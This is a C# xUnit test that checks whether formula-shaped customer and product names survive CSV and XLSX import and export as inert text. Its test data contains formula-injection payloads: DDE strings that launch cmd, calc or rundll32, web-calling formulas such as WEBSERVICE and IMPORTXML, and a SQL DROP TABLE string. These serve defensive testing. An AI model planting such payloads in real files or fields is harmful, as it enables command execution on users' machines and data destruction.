using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using Microsoft.VisualBasic.FileIO;
using Nuoda.Platform.Operations;
using Nuoda.Platform;
using Xunit;

namespace Nuoda.Tests.Drills;

/// <summary>F6: what a customer or product is called may look like a formula; it goes in as text and comes out as text, in CSV and in a workbook, and is again what it was.</summary>
public sealed class FormulaDrill
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "==", "=+", "'=", "''=", "＝"];

    private static readonly string[] Bodies =
    [
        "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.org?x=\"&A1;\"click\")", "1+1", "SUM(A1:A9)", "IMPORTXML(\"http://example.org\";\"//a\")", "WEBSERVICE(\"http://example.org\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
        "A1", "2+5+cmd|' /C notepad'!A0", "'; DROP TABLE orders; --", "1,2", "x;y", "\"quoted\"", "多少=钱", "rundll32|'URL.dll,OpenURL calc.exe'!A", "-1", "@SUM(1)", "IF(1=1;\"a\";\"b\")", "INDIRECT(\"A1\")", "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    ];

    // Tabs around a name are cut off when it comes in, as blanks are; within they stay.
    private static string[] Names => [.. from start in Starts from body in Bodies select (start + body).Trim('\t')];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory, Databases.Both]
    public async Task Two_hundred_formulas_go_in_and_out_as_the_text_they_are(Engine engine)
    {
        var names = Names.Distinct(StringComparer.Ordinal).ToArray();
        Assert.Equal(200, Names.Length);
        Assert.InRange(names.Length, 175, 200);
        await using var company = await DrillCompany.On(engine);
        var file = new StringBuilder("order,line,customer,customer name,product,product name,quantity,order date\n");
        for (var i = 0; i < names.Length; i++) file.Append(string.Join(',', new[] { $"SO{i}", "1", names[i], names[i], names[^(i + 1)], names[^(i + 1)], "1", "2026-01-05" }.Select(Cell))).Append('\n');
        var outcome = await company.Import("formulas.csv", file);
        Assert.Equal((names.Length, 0L), (outcome.Read, outcome.Rejected));

        // What is stored is what an importer of such files understands: one quote before a formula is the sign of an export.
        var expected = names.Select(Read).Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal).ToArray();
        var home = company.Database.Home;
        string[] report = ["report", "lines", "--by", "customer,product", "--data", home.Folder, .. home.Database is { } server ? (string[])["--database", server] : []];

        var csv = await NuodaProcess.Run([.. report, "--format", "csv"], Ct);
        Assert.Equal(0, csv.ExitCode);
        var rows = Parsed(csv.Output.TrimStart('\uFEFF'));
        foreach (var cell in rows.SelectMany(r => r.Take(2)))
            Assert.False(cell.Length > 0 && "=+-@\t\r\n\0".Contains(cell[0], StringComparison.Ordinal), $"'{cell}' would be run.");
        foreach (var column in new[] { 0, 1 })
            Assert.Equal(expected, rows.Skip(1).Select(r => Read(r[column])).Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal));
        Assert.Equal(names.Length, rows.Skip(1).Sum(r => int.Parse(r[^1], null)));

        var xlsx = company.At("report.xlsx");
        await File.WriteAllBytesAsync(xlsx, await Bytes([.. report, "--format", "xlsx"]), Ct);
        var cells = Workbook(xlsx);
        foreach (var column in new[] { "A", "B" })
            Assert.Equal(expected, cells.Where(c => c.Column == column && c.Row > 1).Select(c => c.Text).Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal));

        // What went out comes in again, from both, and is known: nothing new, nothing changed.
        Assert.Empty((await Doctor.Examine(home, Ct)).SelectMany(l => l.Findings ?? []));
        var again = new StringBuilder("customer,customer name\n");
        foreach (var row in rows.Skip(1)) again.Append(Cell(row[0])).Append(',').Append(Cell(row[0])).Append('\n');
        var repeated = await company.Import("customers.csv", again);
        Assert.False(repeated.Created.ContainsKey("customers") || repeated.Updated.ContainsKey("customers"), string.Join(", ", repeated.Created.Concat(repeated.Updated)));
    }

    private static string Cell(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static string Read(string cell) => Encoding.UTF8.GetString(CellValues.RemoveEscape(Encoding.UTF8.GetBytes(cell)));

    /// <summary>A CSV reader that is not ours.</summary>
    private static List<string[]> Parsed(string csv)
    {
        using var parser = new TextFieldParser(new StringReader(csv)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false, Delimiters = [","] };
        var rows = new List<string[]>();
        while (parser.ReadFields() is { } fields) rows.Add(fields);
        return rows;
    }

    /// <summary>The cells of the first sheet as they stand in the file: no formula, text as text.</summary>
    private static List<(string Column, int Row, string Text)> Workbook(string path)
    {
        using var zip = ZipFile.OpenRead(path);
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var shared = zip.GetEntry("xl/sharedStrings.xml") is { } strings ? Load(strings).Descendants(main + "si").Select(s => string.Concat(s.Descendants(main + "t").Select(t => t.Value))).ToList() : [];
        var sheet = Load(zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)));
        Assert.Empty(sheet.Descendants(main + "f"));
        var cells = new List<(string, int, string)>();
        foreach (var row in sheet.Descendants(main + "row").Select((r, i) => (Row: r, Number: (int?)r.Attribute("r") ?? i + 1)))
            foreach (var cell in row.Row.Elements(main + "c").Select((c, i) => (Cell: c, Column: (string?)c.Attribute("r") is { } place ? place.TrimEnd("0123456789".ToCharArray()) : ((char)('A' + i)).ToString())))
            {
                var text = (string?)cell.Cell.Attribute("t") switch
                {
                    "s" => shared[(int)cell.Cell.Element(main + "v")!],
                    "inlineStr" => string.Concat(cell.Cell.Descendants(main + "t").Select(t => t.Value)),
                    _ => null,
                };
                if (cell.Column is "A" or "B" && row.Number > 1) Assert.NotNull(text);
                cells.Add((cell.Column, row.Number, text ?? ""));
            }
        return cells;
        static XDocument Load(ZipArchiveEntry entry) { using var stream = entry.Open(); return XDocument.Load(stream, LoadOptions.PreserveWhitespace); }
    }

    private static async Task<byte[]> Bytes(string[] arguments)
    {
        var program = Path.Combine(Nuoda.Tests.Platform.TabularFixture.Root(), "src/Nuoda/bin", new DirectoryInfo(AppContext.BaseDirectory).Parent!.Name, "net10.0/nuoda.dll");
        var start = new System.Diagnostics.ProcessStartInfo("dotnet", [program, .. arguments]) { RedirectStandardOutput = true };
        start.Environment.Remove("NUODA_DATABASE");
        using var process = System.Diagnostics.Process.Start(start)!;
        using var bytes = new MemoryStream();
        await process.StandardOutput.BaseStream.CopyToAsync(bytes, Ct);
        await process.WaitForExitAsync(Ct);
        Assert.Equal(0, process.ExitCode);
        return bytes.ToArray();
    }
}
